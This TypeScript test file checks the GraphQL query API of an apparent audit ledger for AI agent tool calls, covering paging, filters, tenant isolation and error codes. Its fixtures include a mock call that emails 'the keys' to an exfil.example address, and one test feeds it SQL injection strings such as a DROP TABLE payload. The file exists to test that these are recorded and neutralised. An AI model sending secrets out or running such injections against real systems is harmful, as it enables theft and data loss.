import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { v7 as uuidv7 } from 'uuid';
import { postEvents, sealSession, toNdjson, toolCallDrafts } from '../support/event-factory';
import { graphql, graphqlData } from '../support/graphql';
import { startTestLedger, type TestLedger } from '../support/in-process-ledger';

let ledger: TestLedger;
const tenant = `gql-${uuidv7()}`;
const headers = { 'x-ledger-tenant': tenant };
const sessionA = `a-${uuidv7()}`;
const sessionB = `b-${uuidv7()}`;

beforeAll(async () => {
  ledger = await startTestLedger();
  const start = Date.UTC(2026, 10, 1, 12, 0, 0);
  const a = sealSession(
    [
      ...toolCallDrafts('c1', 'send_email', { to: 'bob@example.com', body: 'Lunch at noon?' }, 'sent'),
      ...toolCallDrafts('c2', 'read_file', { path: '/etc/hosts' }, '127.0.0.1 localhost'),
      ...toolCallDrafts('c3', 'send_email', { to: 'eve@exfil.example', body: 'the keys' }, 'sent'),
    ],
    { tenant, sessionId: sessionA, startMs: start },
  );
  const b = sealSession(toolCallDrafts('c1', 'read_file', { path: '/home/me/notes.md' }, 'notes'), {
    tenant,
    sessionId: sessionB,
    startMs: start + 3_600_000,
  });
  // An unrelated tenant whose calls must never show up here.
  const other = sealSession(toolCallDrafts('c1', 'send_email', { to: 'bob@example.com' }, 'sent'), { tenant: `other-${uuidv7()}` });
  for (const events of [a, b, other]) expect((await postEvents(ledger.url, toNdjson(events))).status).toBe(202);
});
afterAll(async () => ledger?.close());

type Page = { toolCalls: { edges: { cursor: string; node: { sessionId: string; callId: string; toolName: string } }[]; pageInfo: { hasNextPage: boolean; endCursor: string | null } } };
const LIST = `query L($filter: ToolCallFilter, $first: Int, $after: String, $order: SortOrder) {
  toolCalls(filter: $filter, first: $first, after: $after, order: $order) {
    edges { cursor node { sessionId callId toolName } } pageInfo { hasNextPage endCursor } } }`;

const keys = (page: Page) => page.toolCalls.edges.map((e) => `${e.node.sessionId === sessionA ? 'A' : 'B'}:${e.node.callId}`);

describe('GraphQL read side', () => {
  it('lists the tenant\'s calls newest first, and oldest first on request', async () => {
    expect(keys(await graphqlData<Page>(ledger.url, LIST, {}, headers))).toEqual(['B:c1', 'A:c3', 'A:c2', 'A:c1']);
    expect(keys(await graphqlData<Page>(ledger.url, LIST, { order: 'ASC' }, headers))).toEqual(['A:c1', 'A:c2', 'A:c3', 'B:c1']);
  });

  it('pages with cursors without gaps or repeats', async () => {
    const seen: string[] = [];
    let after: string | null = null;
    for (let pages = 0; pages < 10; pages++) {
      const page: Page = await graphqlData<Page>(ledger.url, LIST, { first: 1, after }, headers);
      seen.push(...keys(page));
      if (!page.toolCalls.pageInfo.hasNextPage) break;
      after = page.toolCalls.pageInfo.endCursor;
    }
    expect(seen).toEqual(['B:c1', 'A:c3', 'A:c2', 'A:c1']);
  });

  it.each([
    [{ toolName: 'send_email' }, ['A:c3', 'A:c1']],
    [{ sessionId: sessionB }, ['B:c1']],
    [{ argumentsContain: 'EXFIL' }, ['A:c3']],
    [{ status: ['OK'], serverName: 'test-server', toolName: 'read_file' }, ['B:c1', 'A:c2']],
    [{ status: ['FAILED', 'CANCELLED'] }, []],
    [{ from: '2026-11-01T12:30:00Z' }, ['B:c1']],
    [{ to: '2026-11-01T12:30:00Z' }, ['A:c3', 'A:c2', 'A:c1']],
  ])('filters by %j', async (filter, expected) => {
    expect(keys(await graphqlData<Page>(ledger.url, LIST, { filter }, headers))).toEqual(expected);
  });

  it('treats SQL-looking input as data', async () => {
    for (const text of ["' OR 1=1 --", "x'); DROP TABLE events; --", '{tenant:String}', '\\\' UNION SELECT * FROM events']) {
      const page = await graphqlData<Page>(ledger.url, LIST, { filter: { argumentsContain: text, toolName: text } }, headers);
      expect(page.toolCalls.edges).toEqual([]);
    }
    expect(keys(await graphqlData<Page>(ledger.url, LIST, {}, headers))).toHaveLength(4);
  });

  it('finds one call by id, and answers null for an id that does not exist', async () => {
    const found = await graphqlData<{ toolCalls: { edges: { node: { id: string } }[] } }>(
      ledger.url,
      '{ toolCalls(filter: { argumentsContain: "exfil" }) { edges { node { id } } } }',
      {},
      headers,
    );
    expect(found.toolCalls.edges).toHaveLength(1);
    const byId = await graphqlData<{ toolCall: { callId: string; arguments: unknown; result: { body: unknown } } }>(
      ledger.url,
      'query C($id: ID!) { toolCall(id: $id) { callId arguments result { body } } }',
      { id: found.toolCalls.edges[0]!.node.id },
      headers,
    );
    expect(byId.toolCall).toEqual({ callId: 'c3', arguments: { to: 'eve@exfil.example', body: 'the keys' }, result: { body: { content: [{ type: 'text', text: 'sent' }] } } });
    const missing = await graphqlData<{ toolCall: null }>(
      ledger.url,
      'query C($id: ID!) { toolCall(id: $id) { callId } }',
      { id: Buffer.from(JSON.stringify([sessionA, 'nope'])).toString('base64url') },
      headers,
    );
    expect(missing.toolCall).toBeNull();
  });

  it('answers bad requests with coded errors and no internals', async () => {
    // A nullable field that fails leaves `data` in place: 200 with errors, as GraphQL over HTTP has it.
    const cases: [string, Record<string, unknown>, string, number][] = [
      [LIST, { after: 'garbage' }, 'BAD_USER_INPUT', 400],
      [LIST, { first: 5000 }, 'BAD_USER_INPUT', 400],
      [LIST, { first: 0 }, 'BAD_USER_INPUT', 400],
      ['{ toolCall(id: "garbage") { callId } }', {}, 'BAD_USER_INPUT', 200],
      ['{ toolCalls { edges { node { password } } } }', {}, 'GRAPHQL_VALIDATION_FAILED', 400],
      ['{ toolCalls(filter: { status: [EXPLODED] }) { edges { cursor } } }', {}, 'GRAPHQL_VALIDATION_FAILED', 400],
    ];
    for (const [query, variables, code, status] of cases) {
      const answer = await graphql(ledger.url, query, variables, headers);
      expect(answer.status, query).toBe(status);
      expect(answer.errors?.[0]?.extensions?.code, query).toBe(code);
      expect(JSON.stringify(answer)).not.toMatch(/at [A-Za-z]+ \(|node_modules|DB::Exception/);
    }
  });

  it('shows a session with its ordered timeline and its calls', async () => {
    const data = await graphqlData<{ session: { id: string; eventCount: number; timeline: { seq: number; type: string }[]; toolCalls: { edges: { node: { callId: string } }[] } } }>(
      ledger.url,
      'query S($id: ID!) { session(id: $id) { id eventCount timeline { seq type } toolCalls { edges { node { callId } } } } }',
      { id: sessionA },
      headers,
    );
    expect(data.session.eventCount).toBe(6);
    expect(data.session.timeline.map((e) => e.seq)).toEqual([0, 1, 2, 3, 4, 5]);
    expect(data.session.timeline[0]!.type).toBe('tool_call.requested');
    expect(data.session.toolCalls.edges.map((e) => e.node.callId)).toEqual(['c1', 'c2', 'c3']);
  });

  it('does not show another tenant\'s session', async () => {
    const data = await graphqlData<{ session: null }>(ledger.url, 'query S($id: ID!) { session(id: $id) { id } }', { id: sessionA }, {
      'x-ledger-tenant': 'someone-else',
    });
    expect(data.session).toBeNull();
  });
});
